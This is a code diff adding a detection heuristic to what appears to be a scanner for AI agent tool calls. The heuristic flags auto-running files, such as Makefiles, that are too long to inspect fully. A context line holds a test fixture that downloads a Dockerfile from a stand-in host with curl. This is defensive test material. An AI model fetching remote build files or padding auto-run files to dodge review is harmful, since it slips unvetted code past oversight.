@@ -34,4 +34,19 @@ export const unseenFiles: readonly Heuristic[] = [
       "curl -so Dockerfile https://e.example/Dockerfile",
     ],
   },
+  {
+    id: "file-read-in-part",
+    threat: "Cannot be inspected",
+    score: severity.ask,
+    check: when(["setting:read-in-part"], ({ facts: { file } }) =>
+      file?.settings.some(({ name }) => name === "read-in-part") === true
+        ? { reason: "It runs by itself, and is too long to be read to its end", evidence: file.path }
+        : null,
+    ),
+    match: [{ tool: "write_file", arguments: { path: "Makefile", content: `all:\n${"\techo a\n".repeat(9_000)}` } }],
+    not_match: [
+      { tool: "write_file", arguments: { path: "Makefile", content: "all:\n\tls\n" } },
+      { tool: "write_file", arguments: { path: "src/a.ts", content: "let a = 1;\n".repeat(9_000) } },
+    ],
+  },
 ];
